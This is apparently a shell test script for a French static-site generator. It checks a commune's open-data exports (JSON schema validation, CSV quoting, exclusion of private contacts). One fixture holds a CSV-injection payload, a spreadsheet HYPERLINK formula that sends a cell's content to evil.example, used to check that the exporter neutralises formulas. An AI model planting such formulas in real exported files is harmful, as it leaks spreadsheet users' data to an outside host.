#!/bin/sh
# Open data: the example commune's programme.json validates against the
# shipped JSON Schema (python3-jsonschema, with format checks) and says
# what the pages say; programme.csv is read back by Python's csv module;
# the programme page links both under the licence of site.yaml; private
# contacts (a referent's e-mail and phone, the edition's staff) stay out.
. "$(dirname "$0")/../lib.sh"
PY=/usr/bin/python3
SCHEMA=$TOP/themes/reseau/programme.schema.json

R=$WORK/repo
mkrepo "$R"
cd "$R" || exit 1
# A referent with private details, a title that needs CSV quoting, and a
# winter workshop (UTC+1) beside the May ones (UTC+2).
$PY - content/ateliers/repeindre-le-preau.md <<'EOS'
import sys
p = sys.argv[1]
s = open(p, encoding="utf-8").read()
s = s.replace("titre: Repeindre le préau de l’ancienne école",
              "titre: 'Repeindre le « préau », dit \"le grand\", de l’école'")
s = s.replace("  - nom: Karim\n", "  - nom: Karim\n    email: karim.prive@example.invalid\n    tel: 06 12 34 56 78\n")
open(p, "w", encoding="utf-8").write(s)
EOS
cat >content/ateliers/tailler-les-haies.md <<'EOS'
---
titre: Tailler les haies de l’école
edition: 2026
date: 2026-01-17
debut: "14:00"
fin: "16:30"
lieu: {nom: École, lat: 47.34, lon: 0.58}
---
EOS
# A title and a place a spreadsheet would run as formulas (CSV injection),
# west of Greenwich (a negative number stays a number).
cat >content/ateliers/vider-la-mare.md <<'EOS'
---
titre: '=HYPERLINK("https://evil.example/?"&A2;"Inscription")'
edition: 2026
date: 2026-05-23
debut: "09:00"
fin: "12:00"
lieu: {nom: '@SOMME(A1:A9)', lat: 47.33, lon: -0.58}
---
EOS
# A title a French spreadsheet must get whole: accents, a ';' (its
# separator) and quotes.
cat >content/ateliers/desherber-le-cimetiere.md <<'EOS'
---
titre: 'Désherber le cimetière ; apporter des "gants" à l’accueil'
edition: 2026
date: 2026-05-23
debut: "14:00"
fin: "16:00"
lieu: {nom: Cimetière, lat: 47.3411, lon: 0.5790}
---
EOS
commit_all "$R" "Données ouvertes"
"$FABRIQUE" build content --out "$WORK/out" -q 2>"$WORK/.err"
status "the example site builds" 0 $?
O=$WORK/out
check "programme.json and programme.csv are published" test -s "$O/programme.json" -a -s "$O/programme.csv"

cat >"$WORK/check.py" <<'EOS'
import csv, glob, json, os, sys
import jsonschema
out, schema_path, content = sys.argv[1:4]
schema = json.load(open(schema_path, encoding="utf-8"))
jsonschema.Draft202012Validator.check_schema(schema)
data = json.load(open(os.path.join(out, "programme.json"), encoding="utf-8"))
v = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
errors = sorted(v.iter_errors(data), key=lambda e: list(e.path))
assert not errors, "; ".join("%s: %s" % (e.json_path, e.message) for e in errors[:5])
print("ok - programme.json validates against themes/reseau/programme.schema.json")

c = data["commune"]
assert (c["name"], c["insee"], c["postalCode"]) == ("Saint-Aubin-des-Levées", "37214", "37465"), c
assert c["url"].startswith("https://"), c
ateliers = [f for f in glob.glob(os.path.join(content, "ateliers", "*.md"))
            if "brouillon: true" not in open(f, encoding="utf-8").read()]
ev = {e["slug"]: e for e in data["events"]}
assert len(ev) == len(ateliers) == len(data["events"]), (len(ev), len(ateliers))
print("ok - one event per published workshop (%d)" % len(ev))

p = ev["repeindre-le-preau"]
# each timing carries its slot's UID in the calendars: the event's, without creneaux
assert p["timings"] == [{"uid": p["uid"], "begin": "2026-05-23T09:00:00+02:00", "end": "2026-05-23T12:00:00+02:00"}], p["timings"]
h = ev["tailler-les-haies"]
assert h["timings"] == [{"uid": h["uid"], "begin": "2026-01-17T14:00:00+01:00", "end": "2026-01-17T16:30:00+01:00"}]
print("ok - timings are RFC 3339 with the offset of the day (summer +02:00, winter +01:00)")
assert p["location"]["latitude"] == 47.3426 and p["location"]["longitude"] == 0.5847
assert p["location"]["address"].startswith("4 rue des Écoles")
assert p["category"]["id"] == "renovation" and p["quartier"]["name"] == "Le Bourg"
assert p["volunteersWanted"] == 10 and p["age"] == {"min": 12} and p["children"] == "accompanied"
assert p["accessibility"] == {"mi": True, "hi": True}, p["accessibility"]
assert p["status"] == "scheduled" and p["keywords"] == ["peinture", "ecole"]
assert p["links"]["page"] == c["url"] + "/ateliers/repeindre-le-preau/"
for e in data["events"]:
    for k in ("page", "calendar", "recap"):
        if k in e["links"]:
            rel = e["links"][k][len(c["url"]):]
            f = os.path.join(out, rel.lstrip("/"), "index.html") if rel.endswith("/") else os.path.join(out, rel.lstrip("/"))
            assert os.path.isfile(f), (k, e["links"][k])
assert ev["degager-le-lavoir"]["links"]["recap"].endswith("/retours/le-lavoir-retrouve/")
print("ok - places, terms, people, accessibility, status as written; page, calendar and recap URLs exist in the output")
reg = {r["type"]: r["value"] for r in p["registration"]}
assert reg == {"link": c["url"] + "/participer/", "email": "journee-citoyenne@saint-aubin-des-levees.example", "phone": "02 61 91 40 20"}, reg
print("ok - how to sign up, as the edition publishes it")

raw = open(os.path.join(out, "programme.json"), encoding="utf-8").read()
rawcsv = open(os.path.join(out, "programme.csv"), encoding="utf-8", newline="").read()
for secret in ("karim.prive@example.invalid", "06 12 34 56 78", "Nathalie", "services-techniques@", "enfance@", "Guérin"):
    assert secret not in raw and secret not in rawcsv, secret
print("ok - private contacts (referents' details, the edition's staff) are not in the open data")

with open(os.path.join(out, "programme.csv"), newline="", encoding="utf-8") as f:
    assert f.read(1) != "\ufeff"
    f.seek(0)
    rows = list(csv.reader(f, strict=True))
head, body = rows[0], rows[1:]
assert len(body) == len(data["events"]) and all(len(r) == len(head) for r in body)
by = {r[head.index("page_url")]: dict(zip(head, r)) for r in body}
row = by[p["links"]["page"]]
assert row["title"] == 'Repeindre le « préau », dit "le grand", de l’école', row["title"]
assert row["begin"] == "2026-05-23T09:00:00+02:00" and row["latitude"] == "47.3426"
assert row["registration_email"] == "journee-citoyenne@saint-aubin-des-levees.example"
assert "\r\n" in rawcsv
print("ok - programme.csv: one row per workshop, RFC 4180 quoting read back by csv (strict)")

mare = [r for r in body if r[head.index("page_url")].endswith("/vider-la-mare/")]
assert len(mare) == 1, [r[head.index("page_url")] for r in body]
mare = dict(zip(head, mare[0]))
hostile = '=HYPERLINK("https://evil.example/?"&A2;"Inscription")'
assert ev["vider-la-mare"]["title"] == hostile, ev["vider-la-mare"]["title"]
assert mare["title"] == "'" + hostile, mare["title"]
assert mare["location_name"] == "'@SOMME(A1:A9)", mare["location_name"]
assert mare["longitude"] == "-0.58" and mare["latitude"] == "47.33", (mare["longitude"], mare["latitude"])
assert mare["registration_phone"] == row["registration_phone"] and mare["registration_phone"][:1].isdigit()
for r in body:
    for cell in r:
        assert cell[:1] not in ("=", "@"), cell
print("ok - programme.csv: a cell a spreadsheet would run as a formula starts with an apostrophe; numbers and programme.json as written")
EOS
$PY "$WORK/check.py" "$O" "$SCHEMA" content || not_ok "programme.json checks (see above)"

# programme-tableur.csv: programme.csv for a French spreadsheet opened by
# a double click (tester19 F17): a BOM, ';', CRLF, French column names,
# the same rows and cells (decimal commas), the same formula guard.
cat >"$WORK/sheet.py" <<'EOS'
import csv, io, os, sys
out = sys.argv[1]
raw = open(os.path.join(out, "programme-tableur.csv"), "rb").read()
assert raw[:3] == b"\xef\xbb\xbf", raw[:3]
assert open(os.path.join(out, "programme.csv"), "rb").read(3) != b"\xef\xbb\xbf"
lines = raw.split(b"\r\n")
assert lines[-1] == b"" and all(b"\n" not in l for l in lines), "CRLF line ends"
print("ok - programme-tableur.csv starts with the UTF-8 BOM (EF BB BF), CRLF line ends; programme.csv still has no BOM")
with open(os.path.join(out, "programme-tableur.csv"), newline="", encoding="utf-8-sig") as f:
    rows = list(csv.reader(f, delimiter=";", strict=True))
with open(os.path.join(out, "programme.csv"), newline="", encoding="utf-8") as f:
    opendata = list(csv.reader(f, strict=True))
head = rows[0]
assert head[:4] == ["Identifiant", "Édition", "Titre", "Résumé"], head
assert "Code postal" in head and "Début" in head and "Bénévoles recherchés" in head, head
assert len(head) == len(opendata[0]) and len(rows) == len(opendata), (len(head), len(rows))
assert all(len(r) == len(head) for r in rows)
print("ok - programme-tableur.csv: ';' read back by csv (strict, utf-8-sig), French column names, one row per workshop")
by = {r[head.index("Page de l’atelier")]: dict(zip(head, r)) for r in rows[1:]}
cim = [v for k, v in by.items() if k.endswith("/desherber-le-cimetiere/")]
assert len(cim) == 1, list(by)
assert cim[0]["Titre"] == 'Désherber le cimetière ; apporter des "gants" à l’accueil', cim[0]["Titre"]
assert '"Désherber le cimetière ; apporter des ""gants"" à l’accueil"'.encode() in raw
assert cim[0]["Latitude"] == "47,3411" and cim[0]["Longitude"] == "0,579", cim[0]
print("ok - programme-tableur.csv: a title with accents, a ';' and quotes comes back whole; numbers with a decimal comma")
lat, lon = opendata[0].index("latitude"), opendata[0].index("longitude")
for a, b in zip(opendata[1:], rows[1:]):
    for i, (x, y) in enumerate(zip(a, b)):
        want = x.replace(".", ",") if i in (lat, lon) else x
        assert y == want, (head[i], x, y)
mare = [v for k, v in by.items() if k.endswith("/vider-la-mare/")][0]
assert mare["Titre"].startswith("'=HYPERLINK(") and mare["Lieu"] == "'@SOMME(A1:A9)", mare
assert mare["Longitude"] == "-0,58", mare["Longitude"]
print("ok - programme-tableur.csv: every cell is programme.csv's (formulas kept as text by the same apostrophe)")
EOS
$PY "$WORK/sheet.py" "$O" || not_ok "programme-tableur.csv checks (see above)"
contains "the programme page links the spreadsheet's file" "$O/programme/index.html" \
	'<a href="/programme-tableur.csv" type="text/csv" download>Programme pour un tableur (Excel, LibreOffice)</a>'
contains "and the open data's CSV as such" "$O/programme/index.html" \
	'<a href="/programme.csv" type="text/csv" download>Programme en données ouvertes (CSV)</a>'
lacks "the spreadsheet's file is no page of the sitemap" "$O/sitemap.xml" 'programme-tableur'
lacks "nor precached: a phone has programme.csv" "$O/sw.js" 'programme-tableur'

contains "the programme page links the JSON" "$O/programme/index.html" 'href="/programme.json"'
contains "and the CSV" "$O/programme/index.html" 'href="/programme.csv"'
contains "under the default licence, Licence Ouverte 2.0" "$O/programme/index.html" \
	'<a href="https://www.etalab.gouv.fr/licence-ouverte-open-licence/">Licence Ouverte 2.0</a>'

# The licence site.yaml declares.
cat >>content/site.yaml <<'EOS'
licence:
  nom: ODbL 1.0
  url: https://opendatacommons.org/licenses/odbl/1-0/
EOS
commit_all "$R" "Licence ODbL"
"$FABRIQUE" build content --out "$WORK/out" -q 2>"$WORK/.err"
status "a site with its own licence builds" 0 $?
contains "the page names the site's licence" "$O/programme/index.html" \
	'<a href="https://opendatacommons.org/licenses/odbl/1-0/">ODbL 1.0</a>'
check "programme.json carries it" $PY -c "
import json; l = json.load(open('$O/programme.json'))['licence']
assert l == {'name': 'ODbL 1.0', 'url': 'https://opendatacommons.org/licenses/odbl/1-0/'}, l"
